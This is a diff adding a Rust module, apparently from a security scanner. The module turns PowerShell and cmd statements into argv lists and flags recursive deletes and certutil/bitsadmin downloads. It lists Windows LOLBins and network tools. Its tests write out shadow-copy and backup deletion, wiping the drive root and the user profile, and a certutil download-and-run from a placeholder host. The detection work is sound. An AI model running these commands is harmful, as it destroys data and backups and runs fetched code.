@@ -1,0 +1,373 @@
+//! Native Windows programs and cmd.exe built-ins, as a PowerShell script or a cmd prompt runs
+//! them: each statement (`;`, newlines, and cmd's `&`, `&&`, `||`) that starts with a known
+//! native program becomes an argv in the shell layer's terms — `.exe` dropped, paths with `/`,
+//! `C:\` as `/`, `%USERPROFILE%` / `$env:USERPROFILE` as `~`, `%SystemRoot%` as `/Windows` — so
+//! the rule packs judge `vssadmin delete shadows` or `rd /s /q C:\` like any other command.
+//! Recursive cmd deletes (`rd /s`, `del /s`) and downloads (`certutil -urlcache -f URL FILE`,
+//! `bitsadmin /transfer J URL FILE`) are reported as such.
+
+use super::{Report, Run};
+
+/// Native programs and cmd built-ins whose argv the rule packs read (lower case, no `.exe`).
+const NATIVE: &[&str] = &[
+    "attrib",
+    "bcdedit",
+    "bitsadmin",
+    "certutil",
+    "cipher",
+    "cmstp",
+    "cscript",
+    "curl",
+    "del",
+    "diskpart",
+    "erase",
+    "forfiles",
+    "format",
+    "fsutil",
+    "icacls",
+    "installutil",
+    "msbuild",
+    "mshta",
+    "msiexec",
+    "nc",
+    "ncat",
+    "net",
+    "netsh",
+    "pcalua",
+    "procdump",
+    "procdump64",
+    "psexec",
+    "psexec64",
+    "rd",
+    "reg",
+    "regsvr32",
+    "rmdir",
+    "rundll32",
+    "sc",
+    "schtasks",
+    "sdelete",
+    "sdelete64",
+    "shutdown",
+    "takeown",
+    "taskkill",
+    "vssadmin",
+    "wbadmin",
+    "wevtutil",
+    "winrs",
+    "wmic",
+    "wscript",
+    "conhost",
+    "start",
+    "scp",
+    "wget",
+];
+
+/// The lower-case program name of a word: quotes, directories and `.exe` dropped.
+fn program(word: &str) -> String {
+    let w = word.trim_matches(['"', '\'']).replace('\\', "/");
+    let base = w.rsplit('/').next().unwrap_or(&w).to_ascii_lowercase();
+    base.strip_suffix(".exe").unwrap_or(&base).to_string()
+}
+
+/// Windows spellings of a path in the shell layer's terms.
+pub(super) fn windows_path(word: &str) -> String {
+    let mut w = word.trim_matches(['"', '\'']).to_string();
+    const VARS: &[(&str, &str)] = &[
+        ("%userprofile%", "~"),
+        ("$env:userprofile", "~"),
+        ("%homepath%", "~"),
+        ("$home", "~"),
+        ("%appdata%", "~/AppData/Roaming"),
+        ("$env:appdata", "~/AppData/Roaming"),
+        ("%localappdata%", "~/AppData/Local"),
+        ("$env:localappdata", "~/AppData/Local"),
+        ("%temp%", "$TEMP"),
+        ("%tmp%", "$TEMP"),
+        ("$env:temp", "$TEMP"),
+        ("$env:tmp", "$TEMP"),
+        ("%systemroot%", "/Windows"),
+        ("%windir%", "/Windows"),
+        ("$env:systemroot", "/Windows"),
+        ("$env:windir", "/Windows"),
+        ("%systemdrive%", ""),
+        ("$env:systemdrive", ""),
+        ("%programdata%", "/ProgramData"),
+        ("$env:programdata", "/ProgramData"),
+        ("%programfiles%", "/Program Files"),
+        ("$env:programfiles", "/Program Files"),
+        ("%public%", "/Users/Public"),
+        ("$env:public", "/Users/Public"),
+    ];
+    let lower = w.to_ascii_lowercase();
+    for (var, to) in VARS {
+        if lower.starts_with(var) {
+            w = format!("{to}{}", &w[var.len()..]);
+            break;
+        }
+    }
+    let mut w = w.replace('\\', "/");
+    // `C:\Users` is `/Users`; any drive root is a disk's root.
+    let b = w.as_bytes();
+    if b.len() >= 2 && b[0].is_ascii_alphabetic() && b[1] == b':' && !w.contains("://") {
+        w = w[2..].to_string();
+    }
+    if w.is_empty() {
+        w.push('/');
+    }
+    // `C:\*.*` is every file.
+    if let Some(dir) = w.strip_suffix("*.*") {
+        w = format!("{dir}*");
+    }
+    w
+}
+
+/// Statements of cmd-style text: `;`, newlines, `&`, `&&`, `||` and `|` outside quotes and
+/// parentheses. A leading `&` (PowerShell's call operator) stays with its statement.
+fn statements(text: &str) -> Vec<&str> {
+    let mut out = Vec::new();
+    let mut quote: Option<char> = None;
+    let mut depth = 0usize;
+    let mut start = 0;
+    let bytes = text.as_bytes();
+    let mut k = 0;
+    while k < bytes.len() {
+        let c = bytes[k] as char;
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '"' | '\'') => quote = Some(c),
+            (None, '(' | '{') => depth += 1,
+            (None, ')' | '}') => depth = depth.saturating_sub(1),
+            (None, ';' | '\n' | '|' | '&') if depth == 0 => {
+                let stmt = &text[start..k];
+                // `& $cmd` at a statement's start is PowerShell's call operator.
+                if c == '&' && stmt.trim().is_empty() {
+                    k += 1;
+                    continue;
+                }
+                out.push(stmt);
+                let doubled = bytes.get(k + 1) == Some(&bytes[k]);
+                k += if doubled { 2 } else { 1 };
+                start = k;
+                continue;
+            }
+            _ => {}
+        }
+        k += 1;
+    }
+    out.push(&text[start..]);
+    out
+}
+
+/// Words of a statement: blanks outside quotes split, quotes kept for `program`.
+fn words(stmt: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut quote: Option<char> = None;
+    for c in stmt.chars() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), c) => cur.push(c),
+            (None, '"' | '\'') => quote = Some(c),
+            (None, c) if c.is_whitespace() => {
+                if !cur.is_empty() {
+                    out.push(std::mem::take(&mut cur));
+                }
+            }
+            (None, c) => cur.push(c),
+        }
+    }
+    if !cur.is_empty() {
+        out.push(cur);
+    }
+    out
+}
+
+/// A cmd switch (`/s`, `/q`, `/a:h`, `/f`) rather than a path.
+fn is_switch(w: &str) -> bool {
+    let b = w.as_bytes();
+    b.len() >= 2
+        && b[0] == b'/'
+        && b[1].is_ascii_alphabetic()
+        && (b.len() == 2
+            || b[2] == b':'
+            || (b.len() <= 4 && w[1..].bytes().all(|c| c.is_ascii_alphabetic())))
+}
+
+/// Analyse the native commands of PowerShell or cmd text (original case).
+pub(super) fn native(code: &str, r: &mut Report) {
+    for stmt in statements(code) {
+        let mut ws = words(stmt);
+        // `cmd /c …`, `cmd.exe /k …`, `conhost --headless …`, `start "" /b …`: the command after.
+        while let Some(first) = ws.first() {
+            let name = program(first);
+            let skip = match name.as_str() {
+                "cmd" => ws
+                    .iter()
+                    .position(|w| matches!(w.to_ascii_lowercase().as_str(), "/c" | "/k" | "/r"))
+                    .map(|i| i + 1),
+                "conhost" => Some(1 + usize::from(ws.get(1).is_some_and(|w| w == "--headless"))),
+                "start" => Some(
+                    1 + ws[1..]
+                        .iter()
+                        .take_while(|w| w.is_empty() || is_switch(w))
+                        .count(),
+                ),
+                _ => None,
+            };
+            match skip {
+                Some(n) if n < ws.len() => {
+                    ws.drain(..n);
+                }
+                Some(_) => ws.clear(),
+                None => break,
+            }
+            if ws.len() == 1 {
+                // `cmd /c "rd /s /q C:\"`: one quoted command line.
+                let inner = ws[0].clone();
+                if inner.contains(char::is_whitespace) {
+                    native(&inner, r);
+                    ws.clear();
+                }
+            }
+        }
+        let Some(first) = ws.first() else { continue };
+        let name = program(first);
+        let explicit_exe = first
+            .to_ascii_lowercase()
+            .trim_matches(['"', '\''])
+            .ends_with(".exe");
+        // `Set-MpPreference -Disable…`, `Clear-Disk -Number 0`: cmdlets the rule packs name.
+        let cmdlet = {
+            let mut parts = name.split('-');
+            let (a, b) = (parts.next(), parts.next());
+            parts.next().is_none()
+                && a.is_some_and(|a| a.len() > 1 && a.bytes().all(|c| c.is_ascii_alphabetic()))
+                && b.is_some_and(|b| b.len() > 1 && b.bytes().all(|c| c.is_ascii_alphabetic()))
+        };
+        if !NATIVE.contains(&name.as_str()) && !explicit_exe && !cmdlet {
+            continue;
+        }
+        let args: Vec<String> = ws[1..]
+            .iter()
+            .map(|w| {
+                if w.starts_with("-") || is_switch(w) {
+                    w.clone()
+                } else {
+                    windows_path(w)
+                }
+            })
+            .collect();
+        let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
+        let has = |s: &str| lower.iter().any(|a| a == s);
+        match name.as_str() {
+            "rd" | "rmdir" | "del" | "erase" if has("/s") => {
+                for target in args.iter().filter(|a| !is_switch(a)) {
+                    r.deletes.push((target.clone(), format!("{name} /s")));
+                }
+            }
+            "certutil" if has("-urlcache") || has("/urlcache") || has("-verifyctl") => {
+                let pos: Vec<&String> = args
+                    .iter()
+                    .filter(|a| !a.starts_with('-') && !is_switch(a))
+                    .collect();
+                if let Some(url) = pos.iter().find(|a| a.contains("://")) {
+                    let file = pos.iter().find(|a| !a.contains("://")).map_or_else(
+                        || url.rsplit('/').next().unwrap_or("").to_string(),
+                        |f| f.to_string(),
+                    );
+                    r.downloads.push((file, url.to_string()));
+                }
+            }
+            "bitsadmin" if has("/transfer") || has("/addfile") => {
+                if let Some(i) = args.iter().position(|a| a.contains("://")) {
+                    if let Some(file) = args.get(i + 1) {
+                        r.downloads.push((file.clone(), args[i].clone()));
+                    }
+                }
+            }
+            _ => {}
+        }
+        // A program named by its path (`%TEMP%\x.exe`) keeps the path: it may be a download.
+        let argv0 = if NATIVE.contains(&name.as_str()) || cmdlet {
+            name
+        } else {
+            windows_path(first)
+        };
+        let mut argv = vec![argv0];
+        argv.extend(args);
+        r.runs
+            .push((Run::Argv(argv), "a native Windows command".into()));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn argvs(code: &str) -> Vec<String> {
+        let mut r = Report::default();
+        native(code, &mut r);
+        r.runs
+            .into_iter()
+            .filter_map(|(run, _)| match run {
+                Run::Argv(a) => Some(a.join(" ")),
+                Run::Shell(_) => None,
+            })
+            .collect()
+    }
+
+    #[test]
+    fn paths_in_shell_terms() {
+        assert_eq!(windows_path(r"C:\"), "/");
+        assert_eq!(windows_path(r"C:\Users"), "/Users");
+        assert_eq!(windows_path(r"%USERPROFILE%\.ssh\id_rsa"), "~/.ssh/id_rsa");
+        assert_eq!(
+            windows_path(r"$env:SystemRoot\System32"),
+            "/Windows/System32"
+        );
+        assert_eq!(windows_path(r"C:\*.*"), "/*");
+        assert_eq!(windows_path("https://x.example/a"), "https://x.example/a");
+    }
+
+    #[test]
+    fn statements_and_wrappers() {
+        assert_eq!(
+            argvs(
+                r#"cmd /c "vssadmin delete shadows /all /quiet" & wbadmin delete catalog -quiet"#
+            ),
+            [
+                "vssadmin delete shadows /all /quiet",
+                "wbadmin delete catalog -quiet"
+            ]
+        );
+        assert_eq!(argvs("start /b x.exe"), ["x.exe"]);
+        assert_eq!(
+            argvs("Get-ChildItem -Force; git status"),
+            ["get-childitem -Force"]
+        );
+    }
+
+    #[test]
+    fn deletes_and_downloads() {
+        let mut r = Report::default();
+        native(r"rd /s /q C:\ & del /f /s /q %USERPROFILE%\*", &mut r);
+        native(
+            r"certutil -urlcache -split -f http://x.example/a.exe %TEMP%\a.exe && %TEMP%\a.exe",
+            &mut r,
+        );
+        let deletes: Vec<&str> = r.deletes.iter().map(|d| d.0.as_str()).collect();
+        assert_eq!(deletes, ["/", "~/*"]);
+        assert_eq!(
+            r.downloads,
+            [(
+                "$TEMP/a.exe".to_string(),
+                "http://x.example/a.exe".to_string()
+            )]
+        );
+        // `rd build` (not recursive) deletes nothing recursively.
+        let mut r = Report::default();
+        native(r"rd build", &mut r);
+        assert!(r.deletes.is_empty());
+    }
+}
